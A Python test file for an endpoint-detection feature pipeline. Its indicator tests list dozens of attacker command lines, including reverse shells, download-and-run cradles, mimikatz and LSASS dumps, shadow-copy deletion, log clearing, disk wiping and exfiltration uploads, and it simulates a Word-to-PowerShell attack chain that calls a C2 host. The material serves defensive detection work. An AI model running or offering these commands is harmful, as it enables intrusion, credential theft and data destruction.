"""Features: the documented list, behaviour indicators, context of ancestors/descendants, generalisation."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest

from pipeline import features as F
from pipeline import process_facts
from pipeline.eventkit import EventKit
from pipeline.indicators import INDICATOR_NAMES, INDICATORS, indicator_mask, indicator_names
from pipeline.tree import DeviceForest
from schemas.events import BehaviorEvent

ROOT = Path(__file__).resolve().parents[2]
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
ENC = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"

POSITIVES: dict[str, list[str]] = {
    "encoded_command": [
        ENC,
        "pwsh -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8A",
        "[System.Convert]::FromBase64String($s)",
    ],
    "base64_blob": ["echo SGVsbG8gd29ybGQgdGhpcyBpcyBhIHZlcnkgbG9uZyBzdHJpbmc= | base64 -d"],
    "download_cradle": [
        "(New-Object Net.WebClient).DownloadString('http://x/a')",
        "certutil -urlcache -f http://x/a a",
        "curl -fsSL https://x.io/i.sh -o i.sh",
        "bitsadmin /transfer j http://x/a C:\\a",
        "iwr http://x",
    ],
    "invoke_expression": ["IEX (iwr http://x)", "Invoke-Expression $c", "$x | iex"],
    "hidden_execution": [
        "powershell -w hidden -c x",
        "powershell -ExecutionPolicy Bypass -File a.ps1",
        "pwsh -nop -c 1",
    ],
    "shadow_copy_delete": [
        "vssadmin.exe Delete Shadows /All /Quiet",
        "wmic shadowcopy delete",
        "bcdedit /set {default} recoveryenabled No",
        "wbadmin delete catalog -quiet",
    ],
    "log_clear": [
        "wevtutil cl Security",
        "Clear-EventLog -LogName System",
        "history -c",
        "rm -rf /var/log/auth.log",
    ],
    "registry_run_key": [r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d c:\a.exe"],
    "scheduled_task": [
        "schtasks /create /sc minute /tn u /tr c:\\a.exe",
        "crontab -l",
        "echo x >> /etc/crontab",
    ],
    "service_install": ["sc.exe create evil binPath= c:\\a.exe", "systemctl enable backdoor.service"],
    "account_create": [
        "net user hacker P@ss /add",
        "net localgroup administrators hacker /add",
        "useradd -m x",
    ],
    "identity_discovery": ["whoami /all", "id", "cat /etc/passwd", "net user /domain"],
    "domain_discovery": ["nltest /dclist:corp", 'net group "Domain Admins" /domain', "Get-ADUser -Filter *"],
    "system_discovery": ["systeminfo", "ipconfig /all", "uname -a", "ps aux", "netstat -ano"],
    "network_discovery": ["net view \\\\fs01", "nmap -sS 10.0.0.0/24", "net share"],
    "make_executable": ["chmod +x /tmp/a", "chmod 755 ./run", "chmod u+s /bin/sh"],
    "pipe_to_shell": ["curl -s http://x/i.sh | sh", "wget -qO- http://x | bash", "cat a | python3"],
    "base64_decode": ["echo aGk= | base64 -d", "certutil -decode a.b64 a.exe", "base64 --decode x"],
    "reverse_shell": [
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "mkfifo /tmp/f",
    ],
    "remote_execution": [
        "psexec \\\\host cmd",
        "wmic /node:10.0.0.5 process call create calc",
        "ssh admin@10.0.0.5 uname -a",
        "scp a.tar u@h:/tmp",
    ],
    "archive_data": [
        "tar czf /tmp/l.tgz /home",
        "7z a loot.7z C:\\docs",
        "Compress-Archive -Path c:\\d -Dest x.zip",
    ],
    "exfil_transfer": ["curl -T loot.tgz ftp://x", "curl -F f=@loot.zip https://x", "rclone copy loot r:b"],
    "credential_tool": [
        "mimikatz sekurlsa::logonpasswords",
        "rundll32 comsvcs.dll, MiniDump 600 l.dmp full",
        "reg save HKLM\\SAM sam.hiv",
        "cat /etc/shadow",
        'ntdsutil "ac i ntds" ifm',
    ],
    "defense_tamper": [
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "setenforce 0",
        "ufw disable",
        "netsh advfirewall set allprofiles state off",
    ],
    "proxy_execution": [
        "mshta http://x/a.hta",
        "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
        "msbuild a.csproj",
    ],
    "hide_artifacts": ["attrib +h +s c:\\x", "chattr +i /etc/x", "touch -r /bin/ls /tmp/a"],
    "file_wipe": [
        "shred -u secrets",
        "cipher /w:C:",
        "rm -rf / --no-preserve-root",
        "dd if=/dev/zero of=/dev/sda",
    ],
    "ssh_keys": ["cat id_rsa.pub >> ~/.ssh/authorized_keys", "ssh-keygen -t rsa"],
    "privilege_escalation": ["sudo -l", "find / -perm -4000 2>/dev/null", "fodhelper.exe", "pkexec /bin/sh"],
    "data_collection": ["Get-Clipboard", "findstr /si password *.txt", "grep -ri password /home"],
    "tunnel_proxy": [
        "ssh -R 8080:localhost:80 u@h",
        "plink -R 3389:127.0.0.1:3389 h",
        "netsh interface portproxy add",
    ],
    "url_literal": ["https://example.org/a"],
    "ip_literal": ["ping 192.168.1.20"],
    "user_writable_exec": ["C:\\Users\\u\\AppData\\Local\\Temp\\a.exe", "sh /tmp/x.sh", "/dev/shm/.k"],
    "obfuscation": ["c^m^d^.^e^x^e", "[char]0x41 + [char]66", "$(-join('a','b'))", "cat${IFS}/etc/passwd"],
    "wmi_execution": [
        "wmic process call create calc.exe",
        "Invoke-WmiMethod -Class Win32_Process -Name Create",
    ],
    "inline_interpreter": ["python3 -c 'print(1)'", "perl -e 'exec \"/bin/sh\"'"],
    "security_discovery": [
        "wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct",
        "Get-MpComputerStatus",
    ],
    "memory_dump": ["procdump -ma lsass.exe l.dmp", "gcore 1234"],
    "remote_access_tool": ["AnyDesk.exe --install C:\\ad", "ngrok tcp 22"],
    "kill_processes": ["taskkill /F /IM sqlserver.exe", "net stop MSSQLSERVER", "pkill -9 mysqld"],
    "dll_sideload_path": [
        "rundll32.exe C:\\Users\\Public\\a.dll,Start",
        "regsvr32 /s C:\\ProgramData\\x.dll",
    ],
    "ransom_encrypt": ["openssl enc -aes-256-cbc -in a -out a.enc", "gpg --symmetric secrets.db"],
}
BENIGN = [
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
    "git -c core.quotepath=false status --porcelain",
    "/usr/bin/python3 -m pytest tests/unit",
    "C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1",
    "make -j4 all",
]


def test_every_indicator_has_positive_examples() -> None:
    assert set(POSITIVES) == set(INDICATOR_NAMES)


@pytest.mark.parametrize(("name", "text"), [(n, t) for n, texts in POSITIVES.items() for t in texts])
def test_indicator_fires_on_documented_behaviour(name: str, text: str) -> None:
    assert name in indicator_names(indicator_mask(text))


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_command_lines_carry_no_indicator(text: str) -> None:
    assert indicator_names(indicator_mask(text)) == ()


def test_feature_list_is_documented_unique_and_versioned() -> None:
    assert len(F.FEATURE_NAMES) == len(set(F.FEATURE_NAMES)) == F.N_FEATURES
    assert all(F.FEATURE_DOCS[name].strip() for name in F.FEATURE_NAMES)
    assert F.FEATURE_VERSION.count(".") == 1
    assert len(INDICATORS) <= 64  # masks are uint64


def test_features_md_is_current() -> None:
    text = (ROOT / "pipeline" / "FEATURES.md").read_text(encoding="utf-8")
    assert text == F.render_markdown(), (
        "regenerate: python -c 'import pipeline.features as F; ...render_markdown()'"
    )


def test_no_feature_is_named_after_lab_specifics() -> None:
    banned = (
        "hostname",
        "host_name",
        "username",
        "user_name",
        "domain_name",
        "rulename",
        "rule_name",
        "dataset",
    )
    assert not [n for n in F.FEATURE_NAMES if any(b in n for b in banned)]


def build(events: list[BehaviorEvent]) -> DeviceForest:
    forest = DeviceForest(events[0].device_id, events[0].platform.value)
    for event in events:
        forest.apply(event)
    return forest


def attack(kit: EventKit, user: str) -> list[BehaviorEvent]:
    profile = rf"C:\Users\{user}"
    return [
        kit.start(
            "w", WORD, rf'WINWORD.EXE /n "{profile}\Downloads\invoice.docm"', parent="e", user=f"LAB\\{user}"
        ),
        kit.start("p", PS, ENC, parent="w", user=f"LAB\\{user}", integrity_level="Medium"),
        kit.write("p", rf"{profile}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\u.lnk"),
        kit.connect("p", "198.51.100.7", 4444, dst_hostname=f"c2.{user}.example"),
        kit.start(
            "v", r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet", parent="p"
        ),
    ]


def row(forest: DeviceForest, key: str) -> dict[str, float]:
    values = F.features_for(forest, [key])[0]
    return {F.FEATURE_NAMES[i]: float(values[i]) for i in np.nonzero(values)[0]}


def test_process_row_sees_its_parent_children_and_ancestors() -> None:
    forest = build(attack(EventKit(), "alice"))
    ps = row(forest, "p")
    assert ps["img_shell"] == ps["parent_office"] == ps["pair_office_tool"] == 1
    assert ps["self_encoded_command"] == ps["self_hidden_execution"] == 1
    assert ps["desc_shadow_copy_delete"] == 1 and ps["own_fw_startup"] == 1 and ps["own_net_nonstd_port"] == 1
    word = row(forest, "w")
    assert word["desc_encoded_command"] == word["desc_shadow_copy_delete"] == 1
    assert word["sub_fw_startup"] == 1 and word["own_child_shell"] == 1 and word["parent_unknown"] == 1
    assert word["n_descendants"] == 2 and word["subtree_depth"] == 2
    vss = row(forest, "v")
    assert vss["anc_encoded_command"] == 1 and vss["gparent_office"] == 1 and vss["depth"] == 3


def test_same_behaviour_in_another_lab_gives_the_same_row() -> None:
    """Host, user and domain names must not move a single feature."""
    one = build(attack(EventKit("WORKSTATION5.corp.lab"), "wardog"))
    two = build(attack(EventKit("laptop-42"), "alice.smith"))
    for key in ("w", "p", "v"):
        assert np.array_equal(F.features_for(one, [key]), F.features_for(two, [key])), key


def test_window_leaves_out_old_behaviour_and_idle_descendants() -> None:
    kit = EventKit()
    events = attack(kit, "bob")
    kit.advance(10 * 60_000)
    events.append(kit.start("late", r"C:\Windows\System32\cmd.exe", "cmd /c ver", parent="w"))
    forest = build(events)
    word = row(forest, "w")
    assert "desc_encoded_command" not in word and "sub_fw_startup" not in word
    assert word["n_descendants"] == 1 and word["n_children"] == 2
    wide = F.features_for(forest, ["w"], window_ms=30 * 60_000)[0]
    assert wide[F.feature_index("desc_encoded_command")] == 1


def test_one_matrix_over_many_forests_equals_rows_computed_alone() -> None:
    forests = [build(attack(EventKit(f"dev-{i}"), f"user{i}")) for i in range(3)]
    contexts = [F.row_context(f, k) for f in forests for k in ("w", "p", "v")]
    together = F.feature_matrix(contexts)
    alone = np.vstack([F.feature_matrix([c]) for c in contexts])
    assert together.shape == (9, F.N_FEATURES) and together.dtype == np.float32
    assert np.array_equal(together, alone)


def test_empty_batch_has_the_right_shape() -> None:
    assert F.feature_matrix([]).shape == (0, F.N_FEATURES)


def test_masquerading_and_double_extension_images() -> None:
    kit = EventKit()
    forest = build([
        kit.start("m", r"C:\Users\Public\svchost.exe", "svchost.exe -k x"),
        kit.start("d", r"C:\Users\u\Downloads\invoice.pdf.exe", "invoice.pdf.exe"),
        kit.start("ok", r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs"),
    ])  # fmt: skip
    assert row(forest, "m")["img_masquerade"] == 1
    assert row(forest, "d")["img_double_ext"] == 1 and row(forest, "d")["img_loc_user"] == 1
    assert "img_masquerade" not in row(forest, "ok")


def test_linux_tree_features() -> None:
    kit = EventKit("srv-1", "linux")
    forest = build([
        kit.start("b", "/bin/bash", "-bash", parent="sshd", uid=1000),
        kit.start("s", "/bin/sh", "sh -c 'curl -s http://198.51.100.3/i.sh | sh'", parent="b", uid=1000),
        kit.start("c", "/usr/bin/crontab", "crontab /tmp/.c", parent="s", uid=1000),
        kit.write("c", "/var/spool/cron/crontabs/bob"),
    ])  # fmt: skip
    sh = row(forest, "s")
    assert sh["self_pipe_to_shell"] == sh["self_download_cradle"] == sh["pair_shell_chain"] == 1
    assert sh["desc_scheduled_task"] == 1 and sh["sub_fw_cron"] == 1
    assert row(forest, "c")["own_fw_cron"] == 1


def test_depth_counts_every_known_ancestor_up_to_sixteen() -> None:
    kit = EventKit()
    chain = [kit.start("p0", PS, "powershell")]
    chain += [kit.start(f"p{i}", PS, "powershell", parent=f"p{i - 1}") for i in range(1, 20)]
    forest = build(chain)
    assert [row(forest, key).get("depth", 0) for key in ("p0", "p2", "p3", "p5", "p19")] == [0, 2, 3, 5, 16]


def test_distinct_destinations_count_only_the_window_and_the_subtree() -> None:
    kit = EventKit()
    events = [
        kit.start("p", PS, "powershell"),
        kit.connect("p", "203.0.113.9", 8080),  # leaves the 5-minute window below
        kit.start("c", PS, "powershell", parent="p"),
        kit.connect("c", "203.0.113.7", 443),
    ]
    kit.advance(6 * 60 * 1000)
    events += [
        kit.connect("p", "198.51.100.1", 443),
        kit.connect("p", "198.51.100.1", 8443),
        kit.connect("p", "198.51.100.2", 443),
        kit.connect("c", "198.51.100.3", 443),
        kit.connect("c", "198.51.100.1", 443),
    ]
    values = row(build(events), "p")
    names = ("own_distinct_dst_ip", "own_distinct_dst_port", "sub_distinct_dst_ip")
    assert tuple(values[name] for name in names) == (2, 2, 3)


def test_static_facts_are_the_same_from_the_cache_and_follow_what_changed() -> None:
    """Processes sharing image, command line, integrity, uid and signature share cached facts; a long
    command line is computed without the cache and gives what the cache would have."""
    kit = EventKit()
    long_cmd = "powershell -enc " + "QUJD" * 2000  # > the cache's string bound
    forest = build([
        kit.start("a", PS, "powershell -nop", integrity_level="High"),
        kit.start("b", PS, "powershell -nop", integrity_level="High"),
        kit.start("c", PS, "powershell -nop", integrity_level="Medium"),
        kit.start("l", PS, long_cmd),
        kit.load("c", PS, signed=False),  # its own image, unsigned: img_unsigned moves
    ])  # fmt: skip
    a, b, c, long_row = (row(forest, key) for key in ("a", "b", "c", "l"))
    assert {**a, "lifetime_log": 0} == {**b, "lifetime_log": 0} and a["priv_high"] == 1
    assert "priv_high" not in c and c["img_unsigned"] == 1
    node = forest.nodes["l"]
    args = (node.image, node.image_cls, node.command_line, node.integrity_level, node.uid, node.signed)
    assert F.static_facts(node) == process_facts._static(*args) == process_facts._static.__wrapped__(*args)
    assert long_row["cmd_len_log"] > 8
